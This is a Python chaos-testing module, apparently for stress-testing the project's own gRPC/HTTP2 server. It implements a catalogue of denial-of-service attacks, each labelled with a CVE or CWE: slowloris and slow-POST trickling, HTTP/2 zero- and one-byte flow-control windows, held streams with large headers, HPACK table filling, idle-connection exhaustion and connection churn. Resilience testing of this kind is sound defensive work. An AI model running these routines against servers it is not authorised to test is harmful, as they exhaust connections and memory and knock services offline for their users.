"""Clients that take their time: they hold connections, streams and memory, and send or read byte by byte."""

import itertools
import selectors
import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from functools import partial

from tests.chaos.attack import MIB, Target, attack
from tests.chaos.http2 import (
    CLASSIFY,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    OPENING,
    PREFACE,
    SERVER_METADATA,
    call_block,
    call_head,
    frame,
    framed,
    literal,
    new_streams,
    on_streams,
    window_setting,
    window_update,
)
from tests.chaos.sending import flood

_SLOW_CONNECTIONS = 500
_HOLDING_CONNECTIONS = 50
_ABANDONED_CONNECTIONS = 20
_CALLS = range(1, 2000, 2)  # 1,000 streams
_RECEIVE_BYTES = 2**16
_ADD_TO_TABLE = 0x40  # first bits of a literal of HPACK
_HEADS = 16
_WAVE_CONNECTIONS, _WAVE_S, _ENDING_S = 9, 1.2, 1.0


def _hold(target: Target, opening: bytes, count: int) -> None:
    """Keep `count` connections open, after some bytes on each; open another for each that is closed."""
    with selectors.DefaultSelector() as selector:
        while True:
            while len(selector.get_map()) < count:
                with suppress(OSError):
                    connection = target.connect()
                    selector.register(connection, selectors.EVENT_READ)
                    connection.sendall(opening)
                    target.sent_bytes += len(opening)
            for key, _ in selector.select():
                assert isinstance(key.fileobj, socket.socket)
                with suppress(OSError):
                    if key.fileobj.recv(_RECEIVE_BYTES):
                        continue
                selector.unregister(key.fileobj)
                key.fileobj.close()


def _trickle(target: Target, opening: bytes, rest: bytes) -> None:
    """Send `opening` on many connections, then `rest` again and again, a byte on each in turn."""
    following: dict[socket.socket, Iterator[int]] = {}
    while True:
        while len(following) < min(_SLOW_CONNECTIONS, target.connections):
            with suppress(OSError):
                connection = target.connect()
                connection.sendall(opening)
                following[connection] = itertools.cycle(rest)
        for connection in list(following):
            try:
                connection.sendall(bytes([next(following[connection])]))
                target.sent_bytes += 1
            except OSError:
                connection.close()
                del following[connection]


def _small_call(target: Target) -> bytes:
    """One whole call that succeeds, and whose answer has about 100 bytes."""
    return call_head(target, SERVER_METADATA) + frame(DATA, END_STREAM, 1, framed(b""))


@attack(
    "never-reading",
    does="makes calls on 8 connections and reads none of the answers",
    stands_for="CVE-2019-9517, internal data buffering",
)
def never_reading(target: Target) -> None:
    """The windows of HTTP/2 are wide open, that of TCP is full."""
    opening = OPENING + window_setting(2**30) + window_update(0, 2**30)
    calls = partial(new_streams, _small_call(target), opening=opening)
    flood(target, calls, connections=8, reads=False)


@attack(
    "window-0",
    does="makes 1,000 calls on each of 50 connections with a window of 0 for the answers, and waits",
    stands_for="CVE-2019-9517, slow read",
)
def window_0(target: Target) -> None:
    """The server keeps the answers until a time limit passes."""
    calls = on_streams(_small_call(target), _CALLS)
    _hold(target, OPENING + window_setting(0) + calls, min(_HOLDING_CONNECTIONS, target.connections))


@attack(
    "held-heads",
    does="opens 1,000 calls with heads of 12 KB on each of 50 connections, and sends no more",
    stands_for="CWE-770, memory exhaustion",
)
def held_heads(target: Target) -> None:
    """The heads are as large as they may be, and no deadline is set."""
    head = call_head(target, SERVER_METADATA, (b"x-large", b"x" * 12_000))
    _hold(target, OPENING + on_streams(head, _CALLS), min(_HOLDING_CONNECTIONS, target.connections))


@attack(
    "held-bodies",
    does="opens 1,000 calls on each of 50 connections, and sends 4 KB of each message",
    stands_for="CWE-770, memory exhaustion",
)
def held_bodies(target: Target) -> None:
    """Small bodies, which a server might not count."""
    part = frame(DATA, 0, 1, framed(bytes(4000), length=16 * MIB))
    opening = OPENING + on_streams(call_head(target) + part, _CALLS)
    _hold(target, opening, min(_HOLDING_CONNECTIONS, target.connections))


@attack(
    "abandoned-calls",
    does="makes 1,000 calls on each of 20 connections, closes all connections, and starts again",
    stands_for="CWE-400, work after the client has left",
)
def abandoned_calls(target: Target) -> None:
    """The server cancels 20,000 calls at once."""
    opening = OPENING + window_setting(0) + on_streams(_small_call(target), _CALLS)
    while True:
        with suppress(OSError), ExitStack() as stack:
            for connection in [stack.enter_context(target.connect()) for _ in range(_ABANDONED_CONNECTIONS)]:
                connection.sendall(opening)
                target.sent_bytes += len(opening)


@attack(
    "deadlines-at-once",
    does="opens 1,000 calls on each of 9 connections, whose deadlines all pass at the same time",
    stands_for="CWE-400; work in one turn of an event loop",
)
def deadlines_at_once(target: Target) -> None:
    """Again and again; their messages never end."""
    message = frame(DATA, 0, 1, framed(b"half", length=MIB))
    while True:
        end_s = time.monotonic() + _WAVE_S
        with suppress(OSError):
            connections = [target.connect() for _ in range(_WAVE_CONNECTIONS)]
            for each in connections:
                left_ms = max(1, int((end_s - time.monotonic()) * 1000))
                call = call_head(target, CLASSIFY, (b"grpc-timeout", b"%dm" % left_ms)) + message
                each.sendall(OPENING + on_streams(call, _CALLS))
                target.sent_bytes += len(call) * len(_CALLS)
            time.sleep(max(0.0, end_s - time.monotonic()) + _ENDING_S)
            for each in connections:
                each.close()


@attack(
    "window-1",
    does="reads the answers of 1,000 calls at once byte by byte",
    stands_for="CVE-2019-9511, data dribble",
)
def window_1(target: Target) -> None:
    """Each WINDOW_UPDATE lets the server write one byte of one answer."""

    def chunks() -> Iterator[bytes]:
        yield OPENING + window_setting(0)
        for first in itertools.count(1, 2000):
            streams = range(first, first + 2000, 2)
            yield on_streams(_small_call(target), streams)
            yield from itertools.repeat(on_streams(window_update(1, 1), streams), 200)

    flood(target, chunks)


@attack(
    "slow-prefaces",
    does="sends the preface of HTTP/2 byte by byte on 500 connections, without an end",
    stands_for="RFC 9113, section 3.4; slowloris",
)
def slow_prefaces(target: Target) -> None:
    """The preface, then SETTINGS frames."""
    _trickle(target, PREFACE[:1], PREFACE[1:] + frame(4, 0, 0))


@attack(
    "slow-heads",
    does="sends HTTP/2 heads byte by byte on 500 connections",
    stands_for="CWE-400, slowloris",
)
def slow_heads(target: Target) -> None:
    """A HEADERS frame of 16 KiB on each."""
    _trickle(target, OPENING, frame(1, 0, 1, call_block(target) + bytes(16_000)))


@attack(
    "slow-heads-http1",
    does="sends HTTP/1.1 heads byte by byte on 500 connections",
    stands_for="CWE-400, slowloris",
    is_http1=True,
)
def slow_heads_http1(target: Target) -> None:
    """One header line after the other."""
    _trickle(target, b"POST / HTTP/1.1\r\nhost: chaos\r\n", b"a: b\r\n")


@attack(
    "slow-bodies",
    does="sends bodies byte by byte in DATA frames on 500 connections",
    stands_for="CWE-400, slow POST",
)
def slow_bodies(target: Target) -> None:
    """One call on each connection; frames of one byte."""
    opening = OPENING + call_head(target) + frame(DATA, 0, 1, framed(b"", length=16 * MIB))
    _trickle(target, opening, frame(DATA, 0, 1, b"x"))


@attack(
    "slow-bodies-http1",
    does="sends HTTP/1.1 bodies byte by byte on 500 connections",
    stands_for="CWE-400, slow POST",
    is_http1=True,
)
def slow_bodies_http1(target: Target) -> None:
    """Connect's JSON, of which 16 MiB are announced."""
    head = (
        b"POST /lenserve.v1.Classifier/Classify HTTP/1.1\r\nhost: chaos\r\ncontent-type: application/json\r\n"
    )
    head += b"authorization: Bearer %s\r\ncontent-length: %d\r\n\r\n" % (target.token.encode(), 16 * MIB)
    _trickle(target, head, b" ")


@attack(
    "idle-connections",
    does="opens 5,000 connections and sends nothing",
    stands_for="CWE-770, connection exhaustion",
)
def idle_connections(target: Target) -> None:
    """Those that the server closes are opened again."""
    _hold(target, b"", target.connections)


@attack(
    "idle-http2-connections",
    does="opens 5,000 HTTP/2 connections and makes no call",
    stands_for="CWE-770, connection exhaustion",
)
def idle_http2_connections(target: Target) -> None:
    """Those that the server closes are opened again."""
    _hold(target, OPENING, target.connections)


@attack(
    "remembered-heads",
    does="fills HPACK's table on 5,000 connections, then sends 16 different heads on each",
    stands_for="CWE-770, memory exhaustion",
)
def remembered_heads(target: Target) -> None:
    """What a server remembers of a connection, to decode the next head faster, adds up."""
    entries = b"".join(literal(b"k%d" % each, b"v", first=_ADD_TO_TABLE) for each in range(90))
    fields = [(b"a%d" % each, b"b") for each in range(10)]
    blocks = [call_block(target, b"/unknown") + entries]
    blocks += [call_block(target, b"/%d" % each, *fields) for each in range(_HEADS)]
    heads = [
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, each) for number, each in enumerate(blocks)
    ]
    _hold(target, OPENING + b"".join(heads), target.connections)


@attack(
    "connection-churn",
    does="opens HTTP/2 connections and closes each at once",
    stands_for="CWE-400, connection churn",
)
def connection_churn(target: Target) -> None:
    """With a call that has only just begun."""
    opening = OPENING + call_head(target)
    while True:
        with suppress(OSError), target.connect() as connection:
            connection.sendall(opening)
            target.sent_bytes += len(opening)
